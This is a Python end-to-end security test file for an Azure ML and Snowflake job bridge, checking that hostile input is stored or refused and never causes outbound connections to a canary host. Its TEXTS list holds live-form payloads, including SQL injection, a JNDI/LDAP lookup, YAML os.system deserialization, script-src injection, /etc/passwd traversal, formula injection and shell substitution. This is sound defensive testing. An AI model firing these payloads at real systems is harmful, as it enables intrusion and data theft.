"""Callers who try: their texts arrive as texts or are refused, and no address of theirs is ever connected to."""

import json
import uuid
from collections.abc import Iterator, Mapping
from typing import Any

import httpx
import pytest
from azure.servicebus import ServiceBusClient, ServiceBusMessage

from bridge.adapters.snowflake import STATEMENTS
from bridge.local.endpoints import WORKSPACE
from tests.e2e.driver import PATIENCE, Driver, new_key, run_id_of
from tests.e2e.test_event_doors import event, publish
from tests.eventually import eventually
from tests.security.canary import Canary, canary

RUN_ID = "r-" + "a" * 26
#: {url} is an address that must never be connected to.
TEXTS = [
    "'; DROP TABLE RUN_EVENTS; --",
    "') UNION SELECT * FROM DEAD_LETTERS --",
    "\\'; SELECT 1; --",
    "$$; DROP TABLE RUNS; $$",
    "? :1 %s %(name)s {{0}}",
    '"; | take 10; .drop table runs; print "',
    "{{{{7*7}}}} ${{7*7}} #{{7*7}} <%= 7*7 %>",
    "${{jndi:ldap://{host}/a}}",
    "!!python/object/apply:os.system ['id']",
    "&a [*a, *a]\n- *a",
    "<script src='{url}'></script><img src={url}>",
    "![words]({url}) [click]({url})",
    "../../../../etc/passwd",
    "..%2f..%2f%2e%2e/%00",
    "..\\..\\windows",
    "{url}",
    "file:///etc/passwd",
    "//{host}/x",
    "=cmd|' /C calc'!A0",
    "`id`; $(id) && id",
    "a\nHost: {host}\n\nGET / HTTP/1.1",
]
#: Of requests: what a proxy, a browser, a webhook or a caller of ours could be believed by.
HEADERS = (
    "Callback", "Forwarded", "Idempotency-Key", "Link", "Location", "Origin", "Ocp-Callback", "Referer",
    "WebHook-Request-Callback", "WebHook-Request-Origin", "X-Bridge-Source", "X-Callback-Url", "X-Correlation-Id",
    "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "X-Original-Url", "X-Rewrite-Url", "aeg-event-type",
    "sf-external-function-current-query-id", "sf-external-function-query-batch-id", "traceparent", "tracestate",
)  # fmt: skip
FIELDS = (
    "callbackUrl", "dataref", "dataSchema", "endpoint", "link", "modelUri", "nextLink", "outputs", "path", "schemaUrl",
    "studio_url", "url", "validationUrl", "webhook",
)  # fmt: skip


@pytest.fixture
def trap() -> Iterator[Canary]:
    """Whose connections are counted, and seen to be counted."""
    with canary() as running:
        yield running
        assert running.connections == 0
        with pytest.raises(httpx.HTTPError):
            httpx.get(running.url, trust_env=False)
        eventually(lambda: running.connections == 1, PATIENCE)


def texts(trap: Canary) -> list[str]:
    return [text.format(url=trap.url, host=f"127.0.0.1:{trap.port}") for text in TEXTS]


def failures(driver: Driver) -> dict[str, int]:
    """How often each function failed so far."""
    return {name: counts["failed"] for name, counts in driver.stack.call("functions", "GET", "/invocations").items()}


def send(driver: Driver, queue: str, body: Any, properties: Mapping[str, str] | None = None) -> None:
    """As whoever may send to the queue could."""
    connection = driver.stack.endpoints["service_bus"]["connection_string"]
    text = body if isinstance(body, str) else json.dumps(body)
    given: dict[str | bytes, Any] = {}
    given.update(properties or {})
    with ServiceBusClient.from_connection_string(connection) as client, client.get_queue_sender(queue) as sender:
        sender.send_messages(ServiceBusMessage(text, message_id=uuid.uuid4().hex, application_properties=given))


def test_a_text_arrives_at_azure_ml_and_in_the_ledger_as_it_was_sent(driver: Driver, trap: Canary) -> None:
    hostile = texts(trap)
    keys = [new_key() for _ in hostile]
    rows = [
        ["churn-training", {"as_of": "2026-11-01", "note": text}, key] for text, key in zip(hostile, keys, strict=True)
    ]

    answers = driver.batch(rows, f"hostile-{new_key()}")

    assert {answer["status"] for answer in answers} == {"ACCEPTED"}
    run_ids = [run_id_of("churn-training", key) for key in keys]
    for run_id in run_ids:
        driver.wait_for(run_id, "COMPLETED")
    for run_id, text in zip(run_ids, hostile, strict=True):
        assert driver.stack.call("azure_ml", "GET", f"/jobs/{run_id}")["inputs"]["note"] == text
        ((kept,),) = driver.sql("SELECT inputs FROM runs WHERE run_id = ?", run_id)
        assert json.loads(kept)["note"] == text
    assert_only_our_statements(driver, hostile)


def assert_only_our_statements(driver: Driver, hostile: list[str]) -> None:
    """Whatever callers said: Snowflake saw the statements of the .sql file, and no text of theirs in one."""
    seen = [
        " ".join(each["sql"].split()) for each in driver.stack.call("snowflake", "GET", "/statements")["statements"]
    ]
    ours = [" ".join(text.split()) for text in STATEMENTS.values()]
    written = [text for text in seen if text.startswith("INSERT INTO RUN_EVENTS")]
    assert written, "the ledger was written"
    assert [text for text in written if not any(known.startswith(text) for known in ours)] == []
    assert [text for text in seen for word in hostile if " ".join(word.split()) in text] == []


def test_a_text_in_the_place_of_a_name_or_an_id_is_refused(driver: Driver, trap: Canary) -> None:
    before, jobs = failures(driver), set(driver.jobs())
    hostile = texts(trap)

    for text in hostile:
        path = httpx.URL(driver.http.base_url).copy_with(raw_path=b"/api/v1/runs/" + quoted(text))
        answers = [
            driver.http.get(path),
            driver.http.post("/runs", json={"pipeline": text}),
            driver.http.post("/runs", json={"pipeline": "churn-training", "inputs": {text: 1, "as_of": text}}),
            driver.http.post("/runs", json={"pipeline": "churn-training", "inputs": {"segment": text}}),
            driver.http.get("/runs", params={"status": text}),
            driver.http.get("/runs", params={text[:50]: "x"}),
            driver.http.get("/dead-letters", params={"queue": text}),
            driver.http.post("/events", json={"type": "Team.Done", "topic": text}),
            driver.http.post("/messages", json={"queue": text, "body": 1}),
        ]
        codes = [answer.status_code for answer in answers]
        assert all(400 <= code < 500 for code in codes), (text, codes)
        listed = driver.http.get("/runs", params={"pipeline": text, "query_batch_id": text})
        assert (listed.status_code, listed.json()["runs"]) == (200, [])
        assert driver.http.get("/dead-letters", params={"run_id": text}).json()["dead_letters"] == []

    assert failures(driver) == before
    assert set(driver.jobs()) == jobs
    assert_only_our_statements(driver, hostile)


def quoted(text: str) -> bytes:
    from urllib.parse import quote

    return quote(text, safe="").encode()


def test_no_header_leads_anywhere(driver: Driver, trap: Canary) -> None:
    before = failures(driver)
    headers = dict.fromkeys(HEADERS, trap.url)
    body = {"pipeline": "churn-training", "inputs": {"as_of": "2026-11-01", "note": trap.url}}
    rows = {"data": [[0, "churn-training", {"as_of": "2026-11-01"}, new_key()]]}

    answers = [
        driver.http.post("/runs", json=body, headers=headers),
        driver.http.post("/snowflake/submit_run", json=rows, headers=headers),
        driver.http.request("OPTIONS", "/runs", headers=headers),
        driver.http.get("/health", headers=headers),
        driver.http.get("/pipelines", headers=headers),
        driver.http.post("/events", json={"type": "T.T", "data": dict.fromkeys(FIELDS, trap.url)}, headers=headers),
    ]

    assert all(answer.status_code < 500 for answer in answers), [answer.text for answer in answers]
    for answer in answers:
        assert not [
            name for name, value in answer.headers.items() if str(trap.port) in value and name != "x-correlation-id"
        ]
    driver.wait_until_quiet()
    assert failures(driver) == before


def test_no_event_and_no_message_leads_anywhere(driver: Driver, trap: Canary) -> None:
    before = failures(driver)
    data = dict.fromkeys(FIELDS, trap.url)
    request = {"pipeline": trap.url, "inputs": {"as_of": trap.url}, "idempotency_key": trap.url}
    occasion = {
        "rule": trap.url, "action_id": "a1", "event_id": trap.url, "event_type": trap.url, "correlation_id": trap.url,
    }  # fmt: skip
    common = {"occasion": occasion}

    publish(driver, event(data, uuid.uuid4().hex, "Team.Done", trap.url), event(request, uuid.uuid4().hex))
    for kind in (
        "Microsoft.EventGrid.SubscriptionValidationEvent",
        "Microsoft.MachineLearningServices.ModelRegistered",
    ):
        for door in ("workspace", "custom", trap.url):
            told = {
                "id": uuid.uuid4().hex,
                "eventType": f"Microsoft.{kind}",
                "subject": trap.url,
                "topic": trap.url,
                "data": data,
            }
            send(driver, "inbound-events", [told], {"bridge_door": door})
    cloud = {"specversion": "1.0", "id": uuid.uuid4().hex, "type": "T", "source": trap.url, **data, "data": data}
    send(driver, "inbound-events", cloud, {"bridge_door": "custom"})
    send(driver, "run-commands", request)
    full = {"run_id": RUN_ID, "component": f"azureml:{trap.url}:1", "workspace": trap.url, "correlation_id": trap.url}
    send(driver, "run-commands", {**request, **full, "pipeline": "churn-training"})
    for body in (
        {"op": "check", "run_id": RUN_ID, "workspace": trap.url, "origin": "x"},
        {"op": "notify", "channel": trap.url, "title": trap.url, "text": trap.url, "link": trap.url, **common},
        {"op": "run_data_factory", "factory": trap.url, "pipeline": trap.url, "resource_group": trap.url, **common},
        {"op": "deploy", "workspace": WORKSPACE, "endpoint": trap.url, "deployment": "d", "model_name": trap.url,
         "model_version": "1", "instance_type": trap.url, **common},
        {"op": "publish", "topic": trap.url, **common, "events": [
            {"event_id": "e", "event_type": "T", "subject": "s", "occurred_at": "2026-11-01T00:00:00Z"}]},
    ):  # fmt: skip
        send(driver, "run-control", body)

    driver.wait_until_quiet()
    assert failures(driver) == before

    def settled() -> bool:
        query = "SELECT COUNT(DISTINCT reason) FROM dead_letters WHERE queue = 'run-control' AND reason IN (?, ?, ?)"
        return bool(driver.sql(query, "UNKNOWN_CHANNEL", "UNKNOWN_TOPIC", "BAD_NAME")[0][0] == 3)

    eventually(settled, PATIENCE)
